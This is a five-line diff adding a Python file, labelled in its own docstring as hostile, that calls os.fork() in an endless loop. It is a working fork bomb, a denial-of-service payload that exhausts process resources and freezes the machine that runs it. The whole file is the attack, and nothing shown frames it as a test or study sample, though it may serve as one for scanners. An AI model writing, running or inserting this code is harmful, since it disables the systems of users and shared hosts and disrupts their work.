@@ -1,0 +1,5 @@
+"""Hostile: forks without end."""
+import os
+
+while True:
+    os.fork()
